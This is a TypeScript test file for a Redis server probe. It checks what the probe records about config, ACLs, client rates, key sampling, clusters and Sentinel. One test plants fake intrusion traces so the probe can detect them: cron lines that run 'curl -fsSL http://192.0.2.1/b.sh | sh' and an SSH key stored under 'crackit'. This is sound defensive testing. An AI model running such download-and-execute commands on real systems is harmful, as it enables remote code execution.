import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Server, serverBinary, startCluster, startSentinels, startServer, World } from '../../../../../testbed/index.ts';
import type { Target } from '../../declared/target/types.ts';
import { type FactData, type Facts, type ProbeName, parseFacts } from '../../facts/index.ts';
import { Connection } from '../../redis/index.ts';
import { announcements } from '../announce.ts';
import { ProbeContext } from '../context.ts';
import type { Announced, Reached } from '../interface.ts';
import { probeServer } from './index.ts';

/** Redis 6.2 has no functions and no EVAL_RO, and lacks what the other tests arrange their servers with. */
const isBefore7 = /v=[0-6]\./.test(execFileSync(serverBinary, ['--version'], { encoding: 'utf8' }));

interface Login {
  username?: string;
  password?: string;
}

interface Looked {
  get<K extends ProbeName>(probe: K): FactData<K>;
  states: Record<string, string>;
  commands: number;
  text: string;
  announced: Announced[];
}

async function open(port: number, { username, password }: Login): Promise<Connection> {
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  const connection = new Connection(socket);
  if (password !== undefined) expect(await connection.call(['AUTH', ...(username ? [username] : []), password], { timeoutMs: 5000 })).toBe('OK');
  return connection;
}

/** Looks at a server as the wire stages would hand it over. */
async function look(
  port: number,
  {
    login = {},
    admin,
    speaks = 'data',
    primaryName = null,
    during,
  }: { login?: Login; admin?: Login; speaks?: Reached['speaks']; primaryName?: string | null; during?: () => unknown } = {},
): Promise<Looked> {
  const connection = await open(port, login);
  const adminConnection = admin ? await open(port, admin) : null;
  const before = connection.commands + (adminConnection?.commands ?? 0);
  const context = new ProbeContext({ budgetMs: 10_000, windowMs: 100, write: true, project: '.', environment: {} }, new AbortController().signal);
  const fact = { name: 'target', kind: 'server', primaryName, database: 0, tls: false } as Target['fact'];
  const target: Target = {
    fact,
    credentials: { username: login.username ?? null, password: login.password ?? null },
    sentinelCredentials: null,
    admin: null,
    tls: null,
    rivals: [],
  };
  const endpoint = { subject: `127.0.0.1:${port}`, host: '127.0.0.1', port, path: null };
  const timer = during && setTimeout(during, 40);
  try {
    await probeServer(endpoint, target, { connection, adminConnection, speaks, remoteAddress: '127.0.0.1', localAddress: '127.0.0.1' }, context);
  } finally {
    clearTimeout(timer);
    connection.close();
    adminConnection?.close();
  }
  // Whatever was seen, it can be saved and read again.
  const bundle: Facts = { schema: 1, tool: 'test', takenAt: new Date().toISOString(), budgetMs: 1, facts: context.facts, notChecked: [] };
  parseFacts(JSON.parse(JSON.stringify(bundle)));
  return {
    get: <K extends ProbeName>(probe: K) => {
      const data = context.get(probe, endpoint.subject, 'target');
      if (data === undefined) throw new Error(`${probe} was not recorded`);
      return data;
    },
    states: Object.fromEntries(
      context.facts.map(({ probe, data }) => [probe, 'state' in data ? String(data.state) : probe === 'acl' ? (data as FactData<'acl'>).self.state : '']) as [string, string][],
    ),
    commands: connection.commands + (adminConnection?.commands ?? 0) - before,
    text: JSON.stringify(context.facts),
    announced: announcements(endpoint, target, context),
  };
}

const value = <T>(asked: { state: string; value?: T }): T => {
  expect(asked).toMatchObject({ state: 'ok' });
  return asked.value as T;
};

describe('a server', () => {
  let world: World;
  let server: Server;
  let login: Login;
  beforeAll(async () => {
    world = new World();
    login = { password: world.secret() };
    server = await startServer(world, { config: { requirepass: login.password ?? '', masterauth: world.secret() }, login });
    await server.call('EVAL', "for i = 1, 300 do redis.call('SET', 'user:' .. i, i, 'EX', 600) end for i = 1, 40 do redis.call('SET', 'feed:' .. i, i) end", '0');
    await server.call('CONFIG', 'RESETSTAT');
  });
  afterAll(() => world.end());

  it('is known in 22 commands, without a secret', async () => {
    const seen = await look(server.port, { login });
    expect(seen.states).toEqual({
      info: 'ok',
      config: 'ok',
      acl: 'ok',
      clients: 'ok',
      slowlog: 'ok',
      latency: 'ok',
      memory: 'ok',
      modules: 'ok',
      script: isBefore7 ? 'not-asked' : 'ok',
      rates: 'ok',
      keys: 'ok',
    }); // prettier-ignore
    expect(seen.commands).toBeLessThanOrEqual(22);
    for (const secret of world.secrets) expect(seen.text).not.toContain(secret);
    const { values, secrets } = value(seen.get('config'));
    expect(values).toMatchObject({ maxmemory: '0', appendonly: 'no', 'replica-read-only': 'yes' });
    expect(values).not.toHaveProperty('requirepass');
    expect(secrets).toMatchObject({ requirepass: { set: true, weak: null }, masterauth: { set: true }, 'tls-key-file-pass': { set: false } });
  });

  it('is told apart from what we do to it', async () => {
    const seen = await look(server.port, { login });
    expect(value(seen.get('rates')).delta).toMatchObject({
      total_commands_processed: 0,
      keyspace_hits: 0,
      keyspace_misses: 0,
      total_error_replies: 0,
      total_net_input_bytes: 0,
      total_net_output_bytes: 0,
    });
    expect(value(seen.get('clients')).total).toBe(0);
  });

  it('shows the work of others in its rates', async () => {
    const client = await server.client();
    const seen = await look(server.port, {
      login,
      during: () =>
        client.connection.pipeline(
          Array.from({ length: 50 }, () => ['GET', 'user:1']),
          { timeoutMs: 1000 },
        ),
    });
    client.close();
    expect(value(seen.get('rates'))).toMatchObject({ delta: { total_commands_processed: 50, keyspace_hits: 50 } });
    expect(value(seen.get('clients'))).toMatchObject({ total: 1, byAddress: [{ address: '127.0.0.1', count: 1 }], byUser: [{ user: 'default', count: 1 }] });
  });

  it('has its keys sampled', async () => {
    const keys = value((await look(server.port, { login })).get('keys'));
    expect(keys).toMatchObject({ total: 340, databases: [{ database: 0, keys: 340, expires: 300 }], attackKeys: [], lasting: [] });
    expect(keys.sampled).toBeGreaterThanOrEqual(90);
    expect(keys.biggest).toHaveLength(2);
    // Some expire and some do not, and no name says that they should: it is not worth a question for each.
    expect(keys.prefixes).toEqual([]);
  });

  it('is asked fewer than 30 commands, by its own count', async () => {
    const client = await server.client();
    const counted = async () => Number(await client.info('total_commands_processed'));
    const before = await counted();
    await look(server.port, { login });
    expect((await counted()) - before - 1).toBeLessThan(30);
    client.close();
  });

  it('has a cache looked at that never expires', async () => {
    await server.call('EVAL', "for i = 1, 400 do redis.call('SET', 'cache:' .. i, i) end", '0');
    const { prefixes } = value((await look(server.port, { login })).get('keys'));
    const cache = prefixes.find(({ prefix }) => prefix === 'cache:');
    expect(cache?.keys).toBeGreaterThan(10);
    expect(cache?.withoutExpiry).toBe(cache?.keys);
    expect(prefixes.find(({ prefix }) => prefix === 'user:')?.withoutExpiry).toBe(0);
    await server.call('EVAL', "for i = 1, 400 do redis.call('DEL', 'cache:' .. i) end", '0');
  });

  it('tells what an account may ask, and leaves no trace that looks like the application', async () => {
    const few = { username: 'few', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'few', 'on', `>${few.password}`, '-@all', '+ping', '+info');
    const seen = await look(server.port, { login: few });
    expect(seen.states).toMatchObject({
      info: 'ok',
      rates: 'ok',
      config: 'refused',
      acl: 'refused',
      clients: 'refused',
      slowlog: 'refused',
      latency: 'refused',
      memory: 'refused',
      keys: 'refused',
    });
    const admin = await look(server.port, { login });
    expect(value(admin.get('acl').log)).toEqual([]);
    expect(value(admin.get('acl').users).map(({ name }) => name)).toContain('few');
  });

  it('asks another account what the first one may not', async () => {
    const few = { username: 'lowly', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'lowly', 'on', `>${few.password}`, '~x:*', '-@all', '+ping');
    const seen = await look(server.port, { login: few, admin: login });
    expect(seen.states).toMatchObject({ info: 'ok', config: 'ok', clients: 'ok', keys: 'ok' });
    // The rules are those of the application's user, not of the one who asked.
    expect(value(seen.get('acl').self)).toMatchObject({ commands: expect.stringContaining('+ping'), keys: '~x:*' });
    for (const secret of world.secrets) expect(seen.text).not.toContain(secret);
  });

  it('tells refusals of the application', async () => {
    const app = { username: 'app', password: world.secret() };
    await server.call('ACL', 'SETUSER', 'app', 'on', `>${app.password}`, '~user:*', '+@read', '+@connection');
    const client = await server.client(app);
    await client.quietly('SET', 'user:1', 'x');
    client.close();
    const seen = (await look(server.port, { login })).get('acl');
    expect(value(seen.log)).toMatchObject([{ reason: 'command', object: 'set', username: 'app', count: 1 }]);
    expect(seen.categories.set).toContain('@write');
  });

  it('finds one outsized key among thousands, and traces of attacks', async () => {
    await server.call(
      'EVAL',
      "for i = 1, 4000 do redis.call('SET', 'small:' .. i, i) end redis.call('RPUSH', 'the-big-one', string.rep('x', 30000000), string.rep('x', 30000000))",
      '0',
    );
    await server.call('SLOWLOG', 'RESET');
    await server.call('SET', 'backup1', '\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.1/b.sh | sh\n\n');
    await server.call('SET', 'backup2', '\n\n*/3 * * * * curl -fsSL http://192.0.2.1/b.sh | sh\n\n');
    // A schedule and a public key as applications keep them.
    await server.call('MSET', 'job:nightly', '0 3 * * * rebuild --all', 'deploy-key', 'ssh-rsa AAAAB3NzaC1yc2E me@host', 'backup3', 'ok');
    await server.call('SET', 'crackit', '\n\nssh-rsa AAAAB3NzaC1yc2E me@host\n\n');
    const seen = await look(server.port, { login });
    const keys = value(seen.get('keys'));
    expect(keys.biggest[0]).toMatchObject({ key: 'the-big-one', type: 'list', bytes: expect.any(Number) });
    expect(keys.biggest[0]?.bytes).toBeGreaterThan(59_000_000);
    expect(keys.attackKeys.toSorted((a, b) => a.key.localeCompare(b.key))).toEqual([
      { key: 'backup1', sign: 'cron-line' },
      { key: 'backup2', sign: 'cron-line' },
      { key: 'crackit', sign: 'ssh-key' },
    ]);
    expect(seen.commands).toBeLessThanOrEqual(16 + 48);
  });

  it('keeps what was answered when the connection is lost', async () => {
    const seen = await look(server.port, { login, during: () => void server.call('CLIENT', 'KILL', 'TYPE', 'normal', 'SKIPME', 'yes') });
    expect(seen.states).toMatchObject({ info: 'ok', config: 'ok', rates: 'failed', keys: 'failed' });
  });
});

describe('servers of other kinds', () => {
  let world: World;
  beforeAll(() => {
    world = new World();
  });
  afterAll(() => world.end());

  it('knows a server whose commands were renamed away', async () => {
    const server = await startServer(world, { config: { 'rename-command': ['CONFIG ""', 'EVAL ""', ...(isBefore7 ? [] : ['EVAL_RO ""'])] } });
    await server.call('RPUSH', 'queue:default', 'job');
    await server.call('SET', 'crackit', 'x');
    const seen = await look(server.port);
    expect(seen.get('config')).toEqual({ state: 'unknown-command', reply: expect.stringMatching(/^ERR unknown command ['`]CONFIG['`]$/) });
    expect(value(seen.get('keys'))).toMatchObject({
      total: 2,
      attackKeys: [{ key: 'crackit', sign: 'known-name' }],
      lasting: [{ kind: 'queue', example: 'queue:default', keys: 1 }],
    });
    expect(seen.commands).toBeLessThan(40);
  });

  it.skipIf(isBefore7)('knows a server that is loading', async () => {
    const full = await startServer(world, { config: { save: '3600 1' } });
    await full.call('DEBUG', 'POPULATE', '20000');
    await full.call('SAVE');
    await full.stop('SIGKILL');
    const loading = await startServer(world, { ready: false, config: { dir: `${full.folder}/data`, 'key-load-delay': '500', 'loading-process-events-interval-bytes': '1024' } });
    await expect
      .poll(
        () =>
          open(loading.port, {}).then(
            (connection) => connection.close(),
            () => 'not yet',
          ),
        { timeout: 10_000 },
      )
      .toBeUndefined();
    const seen = await look(loading.port);
    expect(value(seen.get('info')).loading).toBe('1');
    expect(seen.states).toMatchObject({ config: 'ok', keys: 'refused' });
    expect(seen.get('keys')).toMatchObject({ reply: expect.stringContaining('LOADING') });
  });

  it('knows a server that a script keeps busy', async () => {
    const server = await startServer(world, { config: { 'lua-time-limit': '20' } });
    const client = await server.client();
    const running = client.quietly('EVAL', 'while true do end', '0').catch(() => undefined);
    await expect.poll(async () => String(await server.call('PING').catch((error: Error) => error.message))).toContain('BUSY');
    const seen = await look(server.port);
    expect(seen.states).toMatchObject({ info: 'refused', rates: 'not-asked', keys: 'refused' });
    await server.call('SCRIPT', 'KILL');
    await running;
    client.close();
  });

  it.skipIf(isBefore7)('announces what a cluster announces', async () => {
    const { nodes } = await startCluster(world);
    const [first, ...others] = nodes;
    const seen = await look(first?.port ?? 0);
    expect(value(seen.get('cluster'))).toMatchObject({ state: 'ok', slotsAssigned: 16384, requireFullCoverage: true });
    expect(value(seen.get('cluster')).nodes).toHaveLength(3);
    expect(seen.announced.map(({ endpoint, as }) => `${as} ${endpoint.subject}`).sort()).toEqual(others.map(({ port }) => `node 127.0.0.1:${port}`).sort());
    expect(seen.commands).toBeLessThanOrEqual(18);
  });

  it.skipIf(isBefore7)('announces what Sentinel and replication announce', async () => {
    const { primary, replicas, sentinels } = await startSentinels(world);
    const [replica] = replicas;
    const [sentinel, ...peers] = sentinels;
    const seen = await look(sentinel?.port ?? 0, { speaks: 'sentinel', primaryName: 'mymaster' });
    expect(value(seen.get('sentinel'))).toMatchObject({
      tilt: false,
      resolveHostnames: false,
      primaries: [{ name: 'mymaster', quorumCheck: expect.stringMatching(/^OK/), lastErrorReply: null }],
    });
    expect(seen.announced.map(({ endpoint, as }) => `${as} ${endpoint.port}`).sort()).toEqual(
      [`primary ${primary.port}`, `replica ${replica?.port}`, ...peers.map(({ port }) => `sentinel ${port}`)].sort(),
    );
    expect((await look(sentinel?.port ?? 0, { speaks: 'sentinel', primaryName: 'other' })).announced).toEqual([]);
    expect((await look(primary.port)).announced).toMatchObject([{ as: 'replica', from: 'replication', endpoint: { port: replica?.port } }]);
    expect((await look(replica?.port ?? 0)).announced).toMatchObject([{ as: 'primary', endpoint: { port: primary.port } }]);
  });
});
